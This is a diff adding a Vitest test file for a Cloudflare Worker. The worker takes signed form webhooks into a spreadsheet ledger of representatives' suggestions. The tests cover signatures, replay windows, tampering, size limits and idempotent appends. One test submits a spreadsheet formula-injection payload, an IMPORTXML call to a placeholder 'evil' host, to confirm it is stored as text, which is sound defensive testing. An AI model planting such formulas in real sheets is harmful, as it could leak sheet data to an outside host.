@@ -1,0 +1,204 @@
+import { env, exports } from "cloudflare:workers";
+import { beforeEach, describe, expect, it } from "vitest";
+import { TAB_NAMES } from "../../sheets-schema/tab-names";
+import { ledgerTab } from "../../sheets-schema/tabs";
+import { applyInbox } from "../../src/jobs/intake/apply-inbox";
+import { runSync } from "../../src/jobs/sync/run-sync";
+import { emulator } from "../support/emulator-admin";
+import { buildFixture, FIXTURE_NOW_MS, fixtureSheets } from "../support/ledger-fixture";
+import { postForm, suggestion } from "../support/signed-post";
+import { depsFor, resetDatabase } from "../support/sync-helpers";
+
+const SHEET = "test-sheet";
+const LEDGER = `'${TAB_NAMES.ledger}'`;
+const headers = ledgerTab.columns.map((c) => c.header);
+const col = (h: string) => headers.indexOf(h);
+
+async function seed() {
+  await emulator.deleteSpreadsheet(SHEET).catch(() => undefined);
+  await emulator.createSpreadsheet(SHEET, fixtureSheets(buildFixture(20)));
+}
+
+/** Applies every stored submission, as the queue consumer would. */
+async function applyAll() {
+  const { results } = await env.DB.prepare("SELECT form, submission_id AS submissionId FROM inbox").all<{
+    form: "suggestion" | "reply" | "rating";
+    submissionId: string;
+  }>();
+  return applyInbox(depsFor(SHEET), results, Date.now());
+}
+
+beforeEach(async () => {
+  await resetDatabase();
+  await seed();
+  await runSync(depsFor(SHEET), "test", FIXTURE_NOW_MS); // as in production: the sheet was synced before forms arrive
+});
+
+describe("form webhooks: answers", () => {
+  it("stores a signed suggestion and answers 202 with its new 编号, then 200 with the same 编号 on a repeat", async () => {
+    const body = suggestion("resp-1", {
+      标题: "关于增设公交站点的建议",
+      领衔代表: "王建国0",
+      内容摘要: "建议在城关路口增设站点",
+    });
+
+    const first = await postForm("suggestion", body);
+    const again = await postForm("suggestion", body);
+
+    expect(first.status).toBe(202);
+    const stored = (await first.json()) as { 编号: string; status: string };
+    expect(stored).toEqual({ 编号: "2026-021", status: "pending" });
+    expect(again.status).toBe(200);
+    expect(await again.json()).toMatchObject({ 编号: "2026-021" });
+    const count = await env.DB.prepare("SELECT count(*) AS n FROM inbox").first<{ n: number }>();
+    expect(count?.n).toBe(1);
+  });
+
+  it("refuses a missing or wrong signature with 401", async () => {
+    const body = suggestion("resp-2", { 标题: "x", 领衔代表: "王建国0" });
+    const unsigned = await exports.default.fetch(
+      new Request("http://jianyi.test/hooks/forms/suggestion", {
+        method: "POST",
+        body: JSON.stringify(body),
+        headers: { "content-type": "application/json" },
+      }),
+    );
+    const wrongSecret = await postForm("suggestion", body, { secret: "guessed" });
+
+    expect(unsigned.status).toBe(401);
+    expect(wrongSecret.status).toBe(401);
+    expect(await wrongSecret.json()).toMatchObject({ error: { code: "bad_signature" } });
+  });
+
+  it("refuses a captured request replayed after the five-minute window", async () => {
+    const body = suggestion("resp-3", { 标题: "x", 领衔代表: "王建国0" });
+    const replayed = await postForm("suggestion", body, {
+      timestamp: Math.floor(Date.now() / 1000) - 6 * 60,
+    });
+
+    expect(replayed.status).toBe(401);
+    expect(((await replayed.json()) as { error: { message: string } }).error.message).toContain("过期");
+  });
+
+  it("refuses a tampered body", async () => {
+    const signed = JSON.stringify(suggestion("resp-4", { 标题: "原标题", 领衔代表: "王建国0" }));
+    const sent = suggestion("resp-4", { 标题: "被篡改的标题", 领衔代表: "王建国0" });
+
+    const response = await postForm("suggestion", sent, { signedText: signed });
+
+    expect(response.status).toBe(401);
+  });
+
+  it("answers 413 over 64 KiB, 415 when not JSON, 400 with field errors when the shape is wrong", async () => {
+    const huge = await postForm(
+      "suggestion",
+      suggestion("resp-5", { 标题: "长", 内容摘要: "字".repeat(23_000) }),
+    );
+    const notJson = await postForm("suggestion", "标题=x", { contentType: "text/plain" });
+    const badShape = await postForm("suggestion", { submissionId: "", answers: {} });
+
+    expect(huge.status).toBe(413);
+    expect(notJson.status).toBe(415);
+    expect(badShape.status).toBe(400);
+    const error = (await badShape.json()) as { error: { code: string; details: { field: string }[] } };
+    expect(error.error.code).toBe("invalid_body");
+    expect(error.error.details.map((d) => d.field).sort()).toEqual([
+      "answers",
+      "submissionId",
+      "submittedAt",
+    ]);
+  });
+});
+
+describe("form webhooks: into the ledger", () => {
+  it("appends each suggestion once, keeping formula-looking answers as text", async () => {
+    await postForm(
+      "suggestion",
+      suggestion("resp-10", {
+        建议标题: '=IMPORTXML("http://evil","//a")',
+        代表姓名: "王建国0",
+        建议内容: "+1",
+        联系电话: "@x",
+      }),
+    );
+    await postForm(
+      "suggestion",
+      suggestion("resp-11", { 标题: "-2", 领衔代表: "不存在的代表", 提出日期: "2026年13月5日" }),
+    );
+
+    const first = await applyAll();
+    const second = await applyAll();
+
+    expect(first).toMatchObject({ outcome: "ok", appended: 2 });
+    expect(second).toMatchObject({ outcome: "ok", appended: 0 });
+    const ledger = await emulator.getValues(SHEET, LEDGER);
+    const added = ledger.filter((r) => r[col("编号")] === "2026-021" || r[col("编号")] === "2026-022");
+    expect(added).toHaveLength(2);
+    expect(added[0]?.[col("标题")]).toBe('=IMPORTXML("http://evil","//a")');
+    expect(added[0]?.[col("内容摘要")]).toBe("+1");
+    expect(added[0]?.[col("备注")]).toBe("联系电话：@x");
+    expect(added[1]?.[col("标题")]).toBe("-2");
+    expect(added[1]?.[col("提出日期")]).toBe("2026年13月5日");
+  });
+
+  it("writes a reply into its suggestion's row, only in the reply's columns", async () => {
+    const before = (await emulator.getValues(SHEET, LEDGER))[5] ?? [];
+    const id = String(before[col("编号")]);
+
+    const response = await postForm("reply", {
+      submissionId: "reply-1",
+      submittedAt: "2026-11-26T10:00:00+08:00",
+      answers: { 编号: id, 答复类别: "B", 答复内容: "已列入明年计划" },
+    });
+    await applyAll();
+
+    expect(response.status).toBe(202);
+    const after = (await emulator.getValues(SHEET, LEDGER))[5] ?? [];
+    expect(after[col("答复类别")]).toBe("B");
+    expect(after[col("答复内容")]).toBe("已列入明年计划");
+    expect(after[col("答复日期")]).toBe(46352); // 2026-11-26
+    for (const h of ["标题", "领衔代表", "主办单位", "交办日期", "满意度"])
+      expect(after[col(h)] ?? "").toEqual(before[col(h)] ?? "");
+  });
+
+  it("keeps a reply for an unknown 编号 and reports it in 校验问题", async () => {
+    const response = await postForm("reply", {
+      submissionId: "reply-2",
+      submittedAt: "2026-11-26T10:00:00+08:00",
+      answers: { 编号: "2026-999", 答复类别: "A", 答复内容: "已解决" },
+    });
+    const applied = await applyAll();
+    await runSync(depsFor(SHEET), "test", FIXTURE_NOW_MS);
+
+    expect(response.status).toBe(202);
+    expect(applied).toMatchObject({ outcome: "ok", unmatched: 1 });
+    const problems = await emulator.getValues(SHEET, `'${TAB_NAMES.problems}'`);
+    expect(problems.some((p) => p[2] === "2026-999" && String(p[5]).includes("reply-2"))).toBe(true);
+  });
+
+  it("gets every accepted submission into the sheet exactly once although writes fail for a while", async () => {
+    for (let i = 0; i < 30; i++) {
+      expect(
+        (await postForm("suggestion", suggestion(`burst-${i}`, { 标题: `建议${i}`, 领衔代表: "王建国0" })))
+          .status,
+      ).toBe(202);
+    }
+    await emulator.addFault({ method: "POST", pathIncludes: ":append", status: 503, times: 40 });
+
+    const failed = await applyAll();
+    // A crash right after a successful append: the inbox still says pending.
+    await emulator.deleteFaults();
+    const appliedOnce = await applyAll();
+    await env.DB.prepare("UPDATE inbox SET status = 'pending'").run();
+    const replayed = await applyAll();
+
+    expect(failed).toMatchObject({ outcome: "failed", retryable: true });
+    expect(appliedOnce).toMatchObject({ outcome: "ok", appended: 30 });
+    expect(replayed).toMatchObject({ outcome: "ok", appended: 0, alreadyThere: 30 });
+    const ids = (await emulator.getValues(SHEET, LEDGER))
+      .map((r) => String(r[col("标题")]))
+      .filter((t) => /^建议\d+$/.test(t));
+    expect(new Set(ids).size).toBe(30);
+    expect(ids).toHaveLength(30);
+  });
+});
